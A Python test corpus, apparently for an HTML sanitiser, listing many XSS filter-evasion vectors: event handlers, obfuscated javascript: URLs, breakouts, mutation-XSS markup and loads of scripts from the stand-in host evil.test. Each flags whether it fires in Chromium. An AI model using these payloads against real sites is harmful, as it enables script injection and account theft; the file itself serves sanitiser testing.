# ruff: noqa: E501 - a vector reads best on one line
"""Ways to smuggle a script through HTML, one of each kind; every one calls `canary()` when it succeeds.

The kinds are those that filter-evasion lists of the field name: event handlers, script URLs and
their disguises, elements that load or navigate, broken markup that a parser mends, attributes and
texts that end the element they stand in, and mutation: markup that is harmless when it is read once
and is not after it was written out and read again.
"""

from __future__ import annotations

from typing import NamedTuple

EVIL = "http://evil.test"


class Vector(NamedTuple):
    """live: fires in the Chromium of today when nothing sanitises it; the rest were, or are in other browsers."""

    kind: str
    html: str
    live: bool = True


def _handler(element: str, event: str, more: str = "", live: bool = True) -> Vector:
    return Vector(f"handler {event} of {element}", f"<{element} {more} on{event}=canary()>x</{element}>", live)


HANDLERS = (
    Vector("handler error of img", "<img src=x onerror=canary()>"),
    Vector("handler error of img, quoted", """<img src="x" onerror="canary()">"""),
    Vector("handler error of img, upper case", "<IMG SRC=x OnErRoR=canary()>"),
    Vector("handler error of img, slashes for spaces", '<img/src="x"/onerror=canary()>'),
    Vector("handler error of img, form feed for space", "<img\x0csrc=x\x0conerror=canary()>"),
    Vector("handler error of img, newlines for spaces", "<img\nsrc=x\nonerror\n=\ncanary()>"),
    Vector("handler error of img, backticks", "<img src=`x` onerror=`canary()`>", live=False),
    Vector("handler error of img, entities in the value", "<img src=x onerror=&#99;&#97;nary&lpar;&rpar;>"),
    Vector("handler error of img, long entities", "<img src=x onerror=&#0000099anary()>"),
    Vector("handler error of img, set by srcset", "<img srcset=x onerror=canary()>"),
    Vector("handler load of img", "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=canary()>", live=False),
    Vector("handler load of svg", "<svg onload=canary()>"),
    Vector("handler load of svg, slash", "<svg/onload=canary()>"),
    Vector("handler error of image in svg", "<svg><image href=x onerror=canary()></svg>"),
    Vector("handler begin of animate", "<svg><animate onbegin=canary() attributeName=x dur=1s></svg>"),
    Vector("handler begin of set", "<svg><set onbegin=canary() attributeName=x></svg>"),
    Vector("handler error of video source", "<video><source src=x onerror=canary()></video>"),
    Vector("handler error of audio", "<audio src=x onerror=canary()></audio>"),
    Vector("handler error of object", "<object data=x onerror=canary()></object>"),
    Vector("handler load of iframe", "<iframe onload=canary()></iframe>"),
    Vector("handler error of script", "<script src=x onerror=canary()></script>"),
    Vector("handler toggle of details", "<details open ontoggle=canary()><summary>x</summary>y</details>"),
    Vector("handler start of marquee", "<marquee onstart=canary()>x</marquee>", live=False),
    Vector("handler focus of input", "<input autofocus onfocus=canary()>"),
    Vector("handler focus of select", "<select autofocus onfocus=canary()></select>"),
    Vector("handler error of image element", "<image src=x onerror=canary()>"),
    Vector("handler error of embed", "<embed src=x onerror=canary()>", live=False),
    Vector("handler load of body", "<body onload=canary()>"),
    Vector(
        "handler animationstart",
        "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=canary()>x</b>",
    ),
    Vector("handler error of link", "<link rel=stylesheet href=x onerror=canary()>"),
    _handler("p", "click"),
    _handler("b", "mouseover"),
    _handler("a", "focus", "href=#"),
    Vector("handler mouseenter of td", "<table><tr><td onmouseenter=canary()>x</table>"),
    _handler("blockquote", "pointerover"),
    _handler("div", "focusin", "tabindex=0"),
    _handler("h2", "copy", live=False),
    _handler("button", "click"),
    Vector("handler without a space before it", """<img src="x"onerror="canary()">"""),
    Vector("handler after a broken attribute", """<img \"\"\"><script>canary()</script>">"""),
    Vector("handler after a null character", "<img src=x\x00 onerror=canary()>"),
    Vector("handler in a closing tag", "</p onclick=canary()>x", live=False),
)

SCRIPTS = (
    Vector("script", "<script>canary()</script>"),
    Vector("script, mixed case", "<ScRiPt>canary()</sCrIpT>"),
    Vector("script, never closed", "<script>canary()//", live=False),
    Vector("script, doubled bracket", "<<script>canary()//<</script>"),
    Vector("script, space in the closing tag", "<script>canary()</script\t\n bar>"),
    Vector("script, other type", "<script type=module>canary()</script>"),
    Vector("script, language attribute", "<script language=javascript>canary()</script>"),
    Vector("script, nested to survive one removal", "<scr<script>ipt>canary()</scr</script>ipt>", live=False),
    Vector("script, slash and letters", "<script/x>canary()</script>"),
    Vector("script from elsewhere", f"<script src={EVIL}/x.js></script>"),
    Vector("script from elsewhere, no scheme", "<script src=//evil.test/x.js></script>"),
    Vector("script in svg", "<svg><script>canary()</script></svg>"),
    Vector("script in svg, entities", "<svg><script>&#99;anary&#40;)</script></svg>"),
    Vector("script in svg, href", "<svg><script href=data:,canary()></script></svg>"),
    Vector("script in a comment that ends early", "<!--><script>canary()</script>-->"),
    Vector("script after a comment with a bang", "<!-- --!><script>canary()</script> -->"),
    Vector("script behind a processing instruction", "<?xml version='1.0'?><script>canary()</script>"),
    Vector("script behind CDATA", "<![CDATA[<script>canary()</script>]]>", live=False),
    Vector("script in an XML island", "<xml><i><b><script>canary()</script></b></i></xml>"),
    Vector("script in UTF-7", "+ADw-script+AD4-canary()+ADw-/script+AD4-", live=False),
    Vector("script in full-width brackets", "＜script＞canary()＜/script＞", live=False),
    Vector("script with a null in its name", "<scr\x00ipt>canary()</scr\x00ipt>", live=False),
    Vector("script with a vertical tab", "<script\x0b>canary()</script>", live=False),
)

LINKS = tuple(
    Vector(f"script URL, {name}", f"""<a href="{url}">x</a>""", live)
    for name, url, live in (
        ("plain", "javascript:canary()", True),
        ("mixed case", "JaVaScRiPt:canary()", True),
        ("leading spaces", "  javascript:canary()", True),
        ("leading control character", "&#1;javascript:canary()", True),
        ("tab inside", "jav&Tab;ascript:canary()", True),
        ("newline inside", "java&NewLine;script:canary()", True),
        ("raw newline inside", "java\nscript:canary()", True),
        ("carriage return inside", "jav&#x0D;ascript:canary()", True),
        ("decimal entities", "&#106;&#97;&#118;&#97;script:canary()", True),
        ("padded entities without semicolons", "&#0000106&#0000097&#0000118&#0000097script:canary()", True),
        ("hexadecimal entities", "&#x6A;avascript&#x3A;canary()", True),
        ("named colon", "javascript&colon;canary()", True),
        ("comment and line", "javascript://example.vn/%0Acanary()", True),
        ("like an address", "javascript:canary()//http://example.vn", True),
        ("view-source", "view-source:javascript:canary()", False),
        ("vbscript", "vbscript:canary()", False),
        ("livescript", "livescript:canary()", False),
        ("feed", "feed:javascript:canary()", False),
        ("data", "data:text/html,<script>canary()</script>", False),
        ("data, base64", "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==", False),
        ("blob", "blob:javascript:canary()", False),
        ("null inside", "java&#0;script:canary()", False),
        ("zero-width inside", "java\u200bscript:canary()", False),
    )
)

URLS = (
    *LINKS,
    Vector("script URL of a form", "<form action=javascript:canary()><input type=submit></form>"),
    Vector("script URL of a button", "<form><button formaction=javascript:canary()>x</button></form>"),
    Vector("script URL of an input image", "<form><input type=image formaction=javascript:canary() src=x></form>"),
    Vector("script URL of an iframe", "<iframe src=javascript:parent.canary()></iframe>"),
    Vector("script URL of an object", "<object data=javascript:canary()></object>", live=False),
    Vector("script URL of an embed", "<embed src=javascript:canary()>", live=False),
    Vector("script URL of a picture", "<img src=javascript:canary()>", live=False),
    Vector("script URL of a low source", "<img lowsrc=javascript:canary() dynsrc=javascript:canary()>", live=False),
    Vector("script URL of a background", "<table background=javascript:canary()><td background=javascript:canary()>", live=False),
    Vector("script URL of a sound", "<bgsound src=javascript:canary()>", live=False),
    Vector("script URL of a citation", "<blockquote cite=javascript:canary()>x</blockquote>", live=False),
    Vector("script URL of a ping", "<a href=# ping=javascript:canary()>x</a>", live=False),
    Vector("script URL of a map", "<map name=m><area href=javascript:canary() shape=default></map><img usemap=#m src=x>"),
    # Not live: Chromium does not always follow such a link when a script clicks it.
    Vector("script URL in svg", "<svg><a href=javascript:canary()><text y=9>x</text></a></svg>", live=False),
    Vector("script URL in svg, xlink", "<svg><a xlink:href=javascript:canary()><text y=9>x</text></a></svg>"),
    Vector("script URL set by animation", "<svg><a><animate attributeName=href values=javascript:canary() /><text y=9>x</text></a></svg>"),
    Vector("script URL in math", "<math><mi href=javascript:canary()>x</mi></math>", live=False),
    Vector("script URL made whole by a base", "<base href=javascript:canary()//><a href=x>x</a>", live=False),
)  # fmt: skip

LOADS = (
    Vector("document in an iframe", "<iframe srcdoc='<script>canary()</script>'></iframe>"),
    Vector("document in an iframe, entities", "<iframe srcdoc='&lt;svg onload=canary()&gt;'></iframe>"),
    Vector("frame from elsewhere", f"<iframe src={EVIL}/></iframe>"),
    Vector("frame of data", "<iframe src='data:text/html,<script>canary()</script>'></iframe>"),
    Vector("object from elsewhere", f"<object data={EVIL}/></object>"),
    Vector("object of data", "<object data='data:text/html,<script>canary()</script>'></object>"),
    Vector("embed from elsewhere", f"<embed src={EVIL}/>"),
    Vector("embedded svg of data", "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"canary()\"/>'>"),
    Vector("refresh to elsewhere", f"<meta http-equiv=refresh content='0;url={EVIL}/'>"),
    Vector("refresh to data", "<meta http-equiv=refresh content='0;url=data:text/html,<script>canary()</script>'>", live=False),
    Vector("refresh to a script URL", "<meta http-equiv=refresh content='0;url=javascript:canary()'>", live=False),
    Vector("base that moves every address", f"<base href={EVIL}/><script src=x.js></script>"),
    Vector("style sheet from elsewhere", f"<link rel=stylesheet href={EVIL}/x.css>"),
    Vector("style sheet imported", f"<style>@import '{EVIL}/x.css';</style>"),
    Vector("style sheet, script URL", "<link rel=stylesheet href=javascript:canary()>", live=False),
    Vector("style with an expression", "<p style='width:expression(canary())'>x</p>", live=False),
    Vector("style with a behaviour", "<p style='behavior:url(x.htc)'>x</p>", live=False),
    Vector("style with a script URL", "<p style='background:url(javascript:canary())'>x</p>", live=False),
    Vector("style that loads", f"<p style='background:url({EVIL}/x.png)'>x</p>", live=False),
    Vector("import of a document", f"<link rel=import href={EVIL}/x.html>", live=False),
    Vector("preload of a script", f"<link rel=modulepreload href={EVIL}/x.js>"),
    Vector("applet", "<applet code=x codebase=javascript:canary()></applet>", live=False),
    Vector("portal of svg use", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><image href=\"x\" onerror=\"canary()\"/></svg>#x'/></svg>", live=False),
    Vector("shadow root declared", "<div><template shadowrootmode=open><img src=x onerror=canary()></template></div>"),
    Vector("inert template", "<template><img src=x onerror=canary()></template>", live=False),
    Vector("frameset", f"<frameset><frame src={EVIL}/></frameset>", live=False),
)  # fmt: skip

BREAKOUTS = (
    Vector("end of a quoted attribute", """"><img src=x onerror=canary()>"""),
    Vector("end of a single-quoted attribute", """'><img src=x onerror=canary()>"""),
    Vector("new attribute, double quotes", """x" onmouseover="canary()" autofocus onfocus="canary()""", live=False),
    Vector("new attribute, single quotes", """x' onmouseover='canary()' autofocus onfocus='canary()""", live=False),
    Vector("end of a text area", "</textarea><img src=x onerror=canary()>"),
    Vector("end of a title", "</title><script>canary()</script>"),
    Vector("end of a style", "</style><script>canary()</script>"),
    Vector("end of a script", "</script><script>canary()</script>"),
    Vector("end of a comment", "--><script>canary()</script>"),
    Vector("end of a noscript", "</noscript><img src=x onerror=canary()>"),
    Vector("end of code", "</code></pre><img src=x onerror=canary()>"),
    Vector("end of Markdown code", "```\n<img src=x onerror=canary()>\n```", live=True),
    Vector("link of Markdown", "[x](javascript:canary())", live=False),
    Vector("link of Markdown, angle brackets", "<javascript:canary()>", live=False),
    Vector("reference of Markdown", "[x]: javascript:canary()\n\n[x]", live=False),
    Vector("picture of Markdown", '![x](x" onerror="canary())', live=False),
    Vector("template expression", "{{constructor.constructor('canary()')()}} ${canary()} <%= canary() %>", live=False),
    Vector("server-side include", '<!--#exec cmd="x"--><img src=x onerror=canary()>'),
    Vector("one text for many places", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(canary())//</title></textarea></style></noscript></script>--><svg/onload='canary()'>"),
)  # fmt: skip

MUTATIONS = tuple(
    Vector(f"mutation, {kind}", html, live)
    for kind, html, live in (
        ("style in math text", "<math><mtext><table><mglyph><style><img src=x onerror=canary()>", True),
        ("comment in math style", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=canary()&gt;'>", False),
        ("attribute in math style", "<math><style><a title='</style><img src=x onerror=canary()>'></a></style></math>", False),
        ("attribute in svg style", "<svg></p><style><a id='</style><img src=x onerror=canary()>'>", True),
        ("attribute in svg title", "<svg><title><a title='</title><img src=x onerror=canary()>'></title></svg>", False),
        ("svg desc", "<svg><desc><style><a title='</style><img src=x onerror=canary()>'></desc></svg>", True),
        ("foreign object", "<svg><foreignObject><style><!--</style><img src=x onerror=canary()>--></foreignObject></svg>", True),
        ("annotation", "<math><annotation-xml encoding='text/html'><style><img src=x onerror=canary()></style></annotation-xml></math>", False),
        ("forms that cross", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary()>", True),
        ("noscript attribute", "<noscript><p title='</noscript><img src=x onerror=canary()>'></noscript>", True),
        ("noembed attribute", "<noembed><p title='</noembed><img src=x onerror=canary()>'></noembed>", True),
        ("noframes attribute", "<noframes><p title='</noframes><img src=x onerror=canary()>'></noframes>", True),
        ("xmp attribute", "<xmp><p title='</xmp><img src=x onerror=canary()>'></xmp>", True),
        ("iframe text", "<iframe><p title='</iframe><img src=x onerror=canary()>'></iframe>", True),
        ("title text", "<title><p title='</title><img src=x onerror=canary()>'></title>", True),
        ("textarea text", "<textarea><p title='</textarea><img src=x onerror=canary()>'></textarea>", True),
        ("select and style", "<select><style></select><img src=x onerror=canary()></style></select>", False),
        ("option", "<select><option><style></option></select><img src=x onerror=canary()></style></option></select>", False),
        ("table that moves its child", "<table><style><td></style><img src=x onerror=canary()></table>", True),
        ("nested tables", "<table><caption><table><style><!--</style><img src=x onerror=canary()>--></table>", True),
        ("backtick attribute", "<img alt='`` onerror=canary()' src=x>", False),
        ("listing with a newline", "<listing>&lt;img src=x onerror=canary()&gt;</listing>", False),
        ("escaped in a style", "<style>&lt;/style&gt;&lt;img src=x onerror=canary()&gt;</style>", False),
        ("CDATA in svg", "<svg><![CDATA[><img src=x onerror=canary()>]]></svg>", False),
        ("CDATA outside of svg", "<svg><b><![CDATA[<img src=x onerror=canary()>]]>", False),
        ("comment that ends with a bang", "<!-- --!><img src=x onerror=canary()>-->", True),
        ("comment in an attribute", "<a title='--><img src=x onerror=canary()>'><!--</a>", False),
        ("processing instruction", "<svg><?x ?><style><img src=x onerror=canary()></style></svg>", True),
        ("plaintext", "<plaintext><img src=x onerror=canary()>", False),
        ("deep nesting", "<div>" * 600 + "<svg><style><img src=x onerror=canary()>" + "</div>" * 600, True),
        ("deep table", "<table><tr><td>" * 200 + "<math><style><img src=x onerror=canary()>", True),
        ("anchors that cross", "<a href=x><table><a href=javascript:canary()>y</a></table>", True),
        ("paragraph in button", "<button><p><button><img src=x onerror=canary()>", True),
        ("head element after body", "</body></html><svg onload=canary()>", True),
    )
)  # fmt: skip

VECTORS = (*HANDLERS, *SCRIPTS, *URLS, *LOADS, *BREAKOUTS, *MUTATIONS)
